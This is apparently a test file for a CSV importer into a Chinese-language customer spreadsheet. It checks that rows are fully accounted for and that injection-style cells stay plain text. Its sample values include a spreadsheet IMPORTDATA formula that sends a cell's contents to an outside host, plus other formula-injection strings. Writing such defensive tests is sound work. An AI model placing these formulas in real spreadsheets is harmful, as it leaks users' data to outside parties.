// Nothing of a file is lost: read = imported + quarantined + skipped, and every value stands somewhere, as text, whatever it looks like.
import fc from 'fast-check';
import { call, csvOf, customersIn, everythingIn, type File, formulasIn, freshPool, importFile, recordsIn } from './pool';

const seed = 20260101;

/** Values spreadsheets and programs take for something else. */
const tricky: readonly (readonly [string, string])[] = [
  ['a formula', '=IMPORTDATA("https://example.com/?q="&A1)'],
  ['a sum', '@SUM(A1:A9)'],
  ['a plus', '+86 是区号'],
  ['a minus', '-1+cmd'],
  ['a tab before a formula', '\t=1+1'],
  ['an apostrophe that is part of the name', "'t Hooft"],
  ['two apostrophes', "''quoted"],
  ['several lines', '第一行\n第二行\r\n第三行'],
  ['a carriage return inside quotes', '甲\r乙'],
  ['an emoji of several parts', '👨‍👩‍👧 一家'],
  ['a character of Extension B', '𠮷野家'],
  ['quotes and delimiters', 'a "b", c; d\te'],
  ['what looks like a date', '1/2'],
  ['what looks like an error', '#N/A!'],
  ['what looks like a truth', 'TRUE'],
  ['leading zeros', '007'],
  ['a long number', '123456789012345678'],
];

test.each(tricky)('%s is a text wherever it comes in', (_title, value) => {
  const host = freshPool();
  const row = [`客户 ${value}`, value, value, value, value];
  const file = csvOf([['姓名', '公司', '备注', '需求描述', '收藏'], row, ['王芳', '', '', '', '好']]);
  expect(importFile(host, { text: file })).toMatchObject({ read: 2, imported: 2 });
  const [customer] = customersIn(host);
  const meant = value.trim().replace(/\r\n?/g, '\n');
  expect(customer).toMatchObject({ remark: meant, needs: meant, cf_1: meant });
  for (const key of ['name', 'company', 'remark', 'needs', 'cf_1']) expect(typeof customer?.[key]).toBe('string');
  expect(recordsIn(host, 'import').flatMap((record) => Object.values(record))).toContain(value);
  expect(formulasIn(host)).toEqual([]);
});

test.each(['=甲', '@乙', "'丙", '1/2', '+1'])('the header %s becomes a label, not a formula', (header) => {
  const host = freshPool();
  importFile(host, {
    text: csvOf([
      ['姓名', '手机', header],
      ['张伟', '13800138000', 'x'],
    ]),
  });
  expect(host.values('客户池')[1]).toContain(header);
  expect(formulasIn(host)).toEqual([]);
});

test.each(['=1+1', "'t Hooft", '@所有人'])('an owner called %s is a person, not a formula', (owner) => {
  const host = freshPool();
  const { newOwners } = importFile(host, {
    text: csvOf([
      ['姓名', '手机', '负责人'],
      ['张伟', '13800138000', owner],
    ]),
  });
  expect(newOwners).toEqual([owner]);
  expect(recordsIn(host, 'users').map(({ name }) => name)).toContain(owner);
  expect(customersIn(host)[0]).toMatchObject({ owner });
  expect(formulasIn(host)).toEqual([]);
});

test('fifty thousand characters in one cell are all there, in pieces', () => {
  const host = freshPool();
  const long = `${'长'.repeat(49_999)}完`;
  expect(
    importFile(host, {
      text: csvOf([
        ['姓名', '备注'],
        ['张伟', long],
      ]),
    }),
  ).toMatchObject({ imported: 1, setAside: 1 });
  const pieces = recordsIn(host, 'quarantine');
  expect(pieces.map(({ value }) => String(value).length)).toEqual([30_000, 20_000]);
  expect(pieces.map(({ value }) => value).join('')).toContain(long);
});

test('a row of nobody stands whole in Quarantine, under the file’s headers', () => {
  const host = freshPool();
  const text = csvOf([
    ['姓名', '公司', '手机', '手机'],
    ['', '', '13800138000', "'t"],
    ['张伟', '', '13900139000', ''],
  ]);
  expect(importFile(host, { text })).toMatchObject({ read: 2, imported: 1, quarantined: 1 });
  const [line] = recordsIn(host, 'quarantine');
  expect(line).toMatchObject({ batch: 'B-000001', row_no: 2, state: 'open', sheet: 'customers' });
  expect(JSON.parse(String(line?.['original']))).toEqual({ 手机: '13800138000', '手机#4': "'t" });
  expect(call(host, 'importRejected', { batch: 'B-000001', page: 0 })).toMatchObject({
    total: 1,
    items: [{ row: 2, column: null }],
  });
});

/** Cells of every kind of mess, with a word in each that can be looked for. */
const word = fc.string({ unit: fc.constantFrom(...'bcdfghjklmnpqrstvwxz'), minLength: 5, maxLength: 9 });
const cell = fc.oneof(
  { weight: 5, arbitrary: word },
  word.map((text) => `=${text}(1)`),
  word.map((text) => `'${text}`),
  word.map((text) => `${text}\n${text}`),
  word.map((text) => `"${text}", ;\t`),
  word.map((text) => `${text}@nowhere`),
  word.map((text) => `@${text}`),
  word.map((text) => `  ${text}  `),
  word.map((text) => `1.38E+10 ${text}`),
  word.map((text) => `2026-02-30 ${text}`),
  fc.constantFrom('', '', 'N/A', '13800138000', '13900139000/010-65529988', '2026-01-05', '3/4/26', '公海', 'VIP', '河南省'),
);
const headers = [
  '姓名',
  '公司',
  '手机',
  '邮箱',
  '负责人',
  '备注',
  '下次跟进日期',
  '标签',
  '城市',
  '客户分层',
  'x',
  'y',
  'z',
  '生日',
];
const table = fc
  .uniqueArray(fc.constantFrom(...headers.keys()), { minLength: 1, maxLength: headers.length })
  .chain((columns) =>
    fc.record({
      header: fc.constant(['姓名', ...columns.map((at) => headers[at] ?? '')]),
      rows: fc.array(fc.array(cell, { minLength: 1, maxLength: columns.length + 2 }), { minLength: 1, maxLength: 8 }),
      delimiter: fc.constantFrom(',', ';', '\t'),
      size: fc.integer({ min: 60, max: 400 }),
    }),
  )
  .filter(({ rows }) => rows.some((row) => row.some((text) => text.trim() !== '')));

test('the account closes, and every word of a file can be found again', () => {
  const host = freshPool();
  const from = host.snapshot();
  fc.assert(
    fc.property(table, ({ header, rows, delimiter, size }) => {
      host.restore(from);
      const file: File = { text: csvOf([header, ...rows], delimiter), size };
      const result = importFile(host, file);
      expect(result.imported + result.quarantined + result.skipped).toBe(result.read);
      expect(customersIn(host)).toHaveLength(result.imported);
      const found = everythingIn(host);
      const where = host.values('客户池').slice(2).flat().join('\n');
      const aside = recordsIn(host, 'quarantine')
        .map(({ value, original }) => `${value ?? ''}\n${original ?? ''}`)
        .join('\n');
      for (const text of rows.flat()) {
        const [wanted] = /[b-z]{5,}/.exec(text) ?? [];
        if (wanted === undefined) continue;
        expect(found).toContain(wanted);
        // Not only as given: a person finds it where he works, or in Quarantine.
        expect(`${where}\n${aside}`).toContain(wanted);
      }
      expect(formulasIn(host)).toEqual([]);
    }),
    { seed, numRuns: 40 },
  );
});
